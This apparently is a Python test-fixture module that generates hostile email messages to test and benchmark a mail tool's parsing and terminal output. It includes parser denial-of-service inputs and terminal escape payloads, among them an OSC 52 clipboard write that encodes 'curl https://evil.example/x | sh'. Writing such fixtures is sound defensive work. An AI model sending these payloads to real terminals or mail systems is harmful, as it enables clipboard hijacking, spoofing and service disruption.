"""Adversarial RFC 5322 messages, as bytes, for the tests and the benchmark.

Every generator takes the Message-ID it answers (``in_reply_to``: written to
In-Reply-To and References; ``None`` leaves both out, for matching by sender
and date) and the address it comes from, so a test can make it match one of
its requests. Sizes are parameters where they make sense; the defaults are the
sizes of the attacker's-eye review (issue 11).

Usage::

    raw = hostile_mail.deep_multipart(request_message_id, "postmaster@example.net")
    raw = hostile_mail.html_anchor_flood(message_id, contact, size=300_000)
    dovecot.append("INBOX", raw)            # or BrokenImapServer(messages=[raw])

``TERMINAL_ATTACKS`` names each escape-sequence payload and ``unsafe_characters``
finds what must never reach a terminal, for assertions on the tool's output.
"""

from __future__ import annotations

import base64
import re
import uuid
from collections.abc import Callable, Collection, Sequence
from datetime import UTC, datetime
from email.utils import format_datetime

__all__ = [
    "DEFAULT_RECIPIENT",
    "DEFAULT_SENDER",
    "HOSTILE_TEXT",
    "MAILER_DAEMON",
    "POSTMASTER",
    "TERMINAL_ATTACKS",
    "adversarial_corpus",
    "ancient_date",
    "deep_multipart",
    "delivery_report",
    "far_future_date",
    "garbage_date",
    "html_anchor_flood",
    "latin1_message_id",
    "latin1_subject",
    "long_header_line",
    "many_headers",
    "many_parts",
    "no_message_id",
    "reply",
    "split_message",
    "terminal_escapes",
    "unsafe_characters",
    "utf8_subject",
]

DEFAULT_SENDER = "bob@example.org"
DEFAULT_RECIPIENT = "alice@example.com"
POSTMASTER = "postmaster@example.net"
MAILER_DAEMON = "MAILER-DAEMON@example.net"

Text = str | bytes

# Each payload on its own; none holds CR or LF, so each fits in a header or a server reply.
TERMINAL_ATTACKS: dict[str, str] = {
    "clear_screen": "\x1b[2J\x1b[H",
    # OSC 52 writes the clipboard: here "curl https://evil.example/x | sh".
    "osc52_clipboard": "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07",
    "osc8_link": "\x1b]8;;https://evil.example/login\x1b\\your account\x1b]8;;\x1b\\",
    "bell": "ding\x07",
    "backspace": "safe\x08\x08\x08\x08evil",
    "c1_csi": "\u009b31mred\u009b0m",
    "bidi_override": "\u202etxt.exe\u202c",
    "zero_width": "pay\u200bpal\u200d\u2060\ufeff",
}
HOSTILE_TEXT = " ".join(TERMINAL_ATTACKS.values())

# What must not reach a terminal from outside: C0 (but TAB, LF), DEL, C1, bidi controls
# (embeddings, overrides, isolates, marks) and zero-width characters.
_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]"
)


def unsafe_characters(text: str) -> list[str]:
    """The characters in `text` that no terminal output may hold (empty list: safe)."""
    return _UNSAFE.findall(text)


def _b(value: Text) -> bytes:
    return value.encode() if isinstance(value, str) else value


def _domain(address: str) -> str:
    return address.rpartition("@")[2] or "example.org"


def _now_date() -> str:
    return format_datetime(datetime.now(UTC))


def reply(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    to: str = DEFAULT_RECIPIENT,
    subject: Text = "Re: Feedback?",
    body: Text = "Thanks, it went well.\r\n",
    from_name: Text | None = None,
    message_id: Text | None = None,
    date: Text | None = None,
    content_type: Text | None = "text/plain; charset=utf-8",
    transfer_encoding: Text | None = "8bit",
    extra_headers: Sequence[tuple[str, Text]] = (),
    omit: Collection[str] = (),
) -> bytes:
    """A plain reply; every other generator is built on it.

    ``str`` values are written as raw UTF-8 (RFC 6532), ``bytes`` exactly as given.
    ``message_id``/``date`` default to a fresh id and now; ``omit`` drops headers by
    name (e.g. ``omit=("Message-ID",)``); ``content_type=None`` leaves out MIME.
    """
    mailbox = _b(sender) if from_name is None else _b(from_name) + b" <" + _b(sender) + b">"
    headers: list[tuple[str, bytes]] = [
        ("From", mailbox),
        ("To", _b(to)),
        ("Subject", _b(subject)),
        ("Date", _b(date if date is not None else _now_date())),
        ("Message-ID", _b(message_id or f"<{uuid.uuid4().hex}@{_domain(sender)}>")),
    ]
    if in_reply_to is not None:
        headers += [("In-Reply-To", _b(in_reply_to)), ("References", _b(in_reply_to))]
    if content_type is not None:
        headers += [("MIME-Version", b"1.0"), ("Content-Type", _b(content_type))]
        if transfer_encoding is not None:
            headers.append(("Content-Transfer-Encoding", _b(transfer_encoding)))
    headers += [(name, _b(value)) for name, value in extra_headers]
    dropped = {name.lower() for name in omit}
    kept = [
        name.encode() + b": " + value + b"\r\n"
        for name, value in headers
        if name.lower() not in dropped
    ]
    return b"".join(kept) + b"\r\n" + _b(body)


def split_message(raw: bytes) -> tuple[bytes, bytes]:
    """(header block without the blank line, body): for assertions on the shape."""
    head, _, body = raw.partition(b"\r\n\r\n")
    return head, body


# --- size: parsers and their recursion ------------------------------------------


def deep_multipart(
    in_reply_to: str | None,
    sender: str = POSTMASTER,
    *,
    depth: int = 1000,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """``depth`` multipart/mixed containers, each the only part of the one above.

    The innermost holds a short text/plain part; every boundary is closed, so the
    message is valid, merely deep (1,000 made Python's parser raise RecursionError).
    """
    if depth < 1:
        raise ValueError("depth must be at least 1")
    opening = [
        b'--d%d\r\nContent-Type: multipart/mixed; boundary="d%d"\r\n\r\n' % (level - 1, level)
        for level in range(1, depth)
    ]
    innermost = b"--d%d\r\nContent-Type: text/plain\r\n\r\nUndeliverable.\r\n" % (depth - 1)
    closing = [b"--d%d--\r\n" % level for level in range(depth - 1, -1, -1)]
    return reply(
        in_reply_to,
        sender,
        to=to,
        subject="Undelivered Mail Returned to Sender",
        content_type='multipart/mixed; boundary="d0"',
        transfer_encoding=None,
        body=b"".join(opening) + innermost + b"".join(closing),
    )


def html_anchor_flood(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    size: int = 100_000,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """A text/html body of exactly ``size`` bytes of ``<a <a <a ...`` on one line.

    Never-closed tags make ``html.parser`` quadratic (100 KB took 201 s).
    """
    body = (b"<a " * (size // 3 + 1))[:size]
    return reply(
        in_reply_to,
        sender,
        to=to,
        content_type="text/html; charset=us-ascii",
        transfer_encoding="7bit",
        body=body,
    )


def long_header_line(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    size: int = 2_000_000,
    name: str = "X-Filler",
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """One unfolded header line of exactly ``size`` bytes (CRLF not counted)."""
    prefix = name.encode() + b": "
    if size <= len(prefix):
        raise ValueError(f"size must exceed {len(prefix)}")
    value = (b"spam " * ((size - len(prefix)) // 5 + 1))[: size - len(prefix)]
    return reply(in_reply_to, sender, to=to, extra_headers=[(name, value)])


def many_headers(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    count: int = 100_000,
    name: str = "X-Filler",
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """``count`` extra header fields, all named ``name`` (``X-Filler: 0`` ...)."""
    extra = [(name, str(index)) for index in range(count)]
    return reply(in_reply_to, sender, to=to, extra_headers=extra)


def many_parts(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    parts: int = 10_000,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """A flat multipart/mixed with ``parts`` short text/plain parts."""
    chunks = [
        b"--p\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\npart %d\r\n" % index
        for index in range(parts)
    ]
    return reply(
        in_reply_to,
        sender,
        to=to,
        content_type='multipart/mixed; boundary="p"',
        transfer_encoding=None,
        body=b"".join(chunks) + b"--p--\r\n",
    )


# --- bytes that are not ASCII ---------------------------------------------------------


def utf8_subject(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    subject: str = "Re: Votre candidature — merci ✓ 日本語",
    from_name: str = "José Müller",
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """Raw UTF-8 in Subject and the From display name, as RFC 6532 allows; UTF-8 body."""
    return reply(
        in_reply_to,
        sender,
        to=to,
        subject=subject,
        from_name=from_name,
        body="Très bien, merci ! Ça s'est bien passé.\r\n",
    )


def latin1_subject(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    subject: bytes = b"Re: Caf\xe9 cr\xe8me \xe0 la fran\xe7aise",
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """A raw Latin-1 byte in the Subject: the header block is not valid UTF-8."""
    return reply(in_reply_to, sender, to=to, subject=subject)


def latin1_message_id(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """A raw Latin-1 byte (0xE9) inside the message's own Message-ID."""
    message_id = (
        b"<r\xe9ponse-" + uuid.uuid4().hex.encode() + b"@" + _domain(sender).encode() + b">"
    )
    return reply(in_reply_to, sender, to=to, message_id=message_id)


_DSN_SUBJECTS = {True: "Undelivered Mail Returned to Sender", False: "Delivery Status Notification"}
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def delivery_report(
    in_reply_to: str,
    recipient: str,
    *,
    sender: str = MAILER_DAEMON,
    to: str = DEFAULT_RECIPIENT,
    diagnostic: bytes | None = None,
    action: str = "failed",
    status: str = "5.1.1",
    threaded: bool = False,
) -> bytes:
    """An RFC 3464 multipart/report about ``recipient``, returning ``in_reply_to``.

    The original Message-ID is in the text/rfc822-headers part, as MTAs do;
    ``threaded=True`` also writes In-Reply-To/References (some MTAs do that too).
    The default Diagnostic-Code holds a raw Latin-1 byte (0xE4), so the part is not
    valid UTF-8. ``action="delivered", status="2.0.0"`` makes a success report.
    """
    if diagnostic is None:
        diagnostic = (
            b"smtp; 550 5.1.1 <" + recipient.encode() + b">: Empf\xe4nger unbekannt / "
            b"recipient unknown"
        )
    failed = action != "delivered"
    now = _now_date().encode()
    body = b"".join(
        [
            b"--dsn\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n",
            b"This is the mail system at host mx.example.net.\r\n\r\n",
            b"I'm sorry to have to inform you that your message could not\r\n"
            b"be delivered to one or more recipients.\r\n"
            if failed
            else b"Your message was successfully delivered to the destination(s).\r\n",
            b"\r\n--dsn\r\nContent-Type: message/delivery-status\r\n\r\n",
            b"Reporting-MTA: dns; mx.example.net\r\nArrival-Date: " + now + b"\r\n\r\n",
            b"Final-Recipient: rfc822; " + recipient.encode() + b"\r\n",
            b"Original-Recipient: rfc822; " + recipient.encode() + b"\r\n",
            b"Action: " + action.encode() + b"\r\n",
            b"Status: " + status.encode() + b"\r\n",
            b"Diagnostic-Code: " + diagnostic + b"\r\n",
            b"\r\n--dsn\r\nContent-Type: text/rfc822-headers\r\n\r\n",
            b"From: " + to.encode() + b"\r\nTo: " + recipient.encode() + b"\r\n",
            b"Subject: Feedback?\r\nMessage-ID: " + in_reply_to.encode() + b"\r\n",
            b"\r\n--dsn--\r\n",
        ]
    )
    return reply(
        in_reply_to if threaded else None,
        sender,
        to=to,
        from_name="Mail Delivery System",
        subject=_DSN_SUBJECTS[failed],
        content_type='multipart/report; report-type=delivery-status; boundary="dsn"',
        transfer_encoding=None,
        body=body,
    )


# --- what a terminal must never see -----------------------------------------------------


def _encoded_words(text: str) -> bytes:
    """RFC 2047 B-encoded words of at most 12 characters each, folded."""
    pieces = [text[start : start + 12] for start in range(0, len(text), 12)]
    words = [b"=?utf-8?b?" + base64.b64encode(piece.encode()) + b"?=" for piece in pieces]
    return b"\r\n ".join(words)


def terminal_escapes(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    text: str = HOSTILE_TEXT,
    encoded_headers: bool = False,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """``text`` (all of TERMINAL_ATTACKS by default) in Subject, From name and body.

    Headers carry it raw (UTF-8) or, with ``encoded_headers=True``, as RFC 2047
    encoded words that a decoder turns back into the same control characters.
    """
    subject = "Re: Feedback? " + text
    name = "Bob " + text
    return reply(
        in_reply_to,
        sender,
        to=to,
        subject=_encoded_words(subject) if encoded_headers else subject,
        from_name=_encoded_words(name) if encoded_headers else name,
        body="Thanks, it went well.\r\n" + text + "\r\nSee you soon.\r\n",
    )


# --- dates and identity -------------------------------------------------------------------


def garbage_date(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    date: Text = "sometime next week, probably",
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """A Date header no parser can read."""
    return reply(in_reply_to, sender, to=to, date=date)


def ancient_date(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    year: int = 1970,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """Dated 1 January of ``year`` (the epoch by default): long before any request."""
    return reply(in_reply_to, sender, to=to, date=format_datetime(datetime(year, 1, 1, tzinfo=UTC)))


def far_future_date(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    years_ahead: int = 7978,
    now: datetime | None = None,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """Dated ``years_ahead`` years after ``now`` (default: the real now), same day and time.

    A year above 9999 is written without a weekday (Python's datetime cannot hold
    it, so ``email.utils`` fails on it); ``years_ahead=9999 - now.year`` gives the
    latest date a datetime can still represent.
    """
    now = now or datetime.now(UTC)
    year = now.year + years_ahead
    if year <= 9999:
        date = format_datetime(now.replace(year=year, day=min(now.day, 28)))
    else:
        date = f"{now.day:02d} {_MONTHS[now.month - 1]} {year} {now:%H:%M:%S} +0000"
    return reply(in_reply_to, sender, to=to, date=date)


def no_message_id(
    in_reply_to: str | None,
    sender: str = DEFAULT_SENDER,
    *,
    to: str = DEFAULT_RECIPIENT,
) -> bytes:
    """An ordinary reply without a Message-ID header."""
    return reply(in_reply_to, sender, to=to, omit=("Message-ID",))


# --- the benchmark's worst cases ------------------------------------------------------------


def _fit(build: Callable[[int], bytes], size: int) -> bytes:
    """``build(n)`` with n chosen so the message is about ``size`` bytes (n grows ~linearly)."""
    base = len(build(1))
    count = 1001
    for _ in range(4):  # proportional correction: per-unit size creeps up with the digits
        raw = build(count)
        if abs(len(raw) - size) <= size // 100 or len(raw) == base:
            break
        count = max(1, round(1 + (count - 1) * (size - base) / (len(raw) - base)))
    else:
        raw = build(count)
    return raw


def adversarial_corpus(
    size: int,
    in_reply_to: str | None = "<request@example.com>",
    sender: str = DEFAULT_SENDER,
) -> dict[str, bytes]:
    """The size-scalable worst cases, each about ``size`` bytes long (within ~1%)."""
    return {
        "deep_multipart": _fit(lambda n: deep_multipart(in_reply_to, POSTMASTER, depth=n), size),
        "html_anchor_flood": _fit(lambda n: html_anchor_flood(in_reply_to, sender, size=n), size),
        "long_header_line": _fit(
            lambda n: long_header_line(in_reply_to, sender, size=n + 20), size
        ),
        "many_headers": _fit(lambda n: many_headers(in_reply_to, sender, count=n), size),
        "many_parts": _fit(lambda n: many_parts(in_reply_to, sender, parts=n), size),
    }
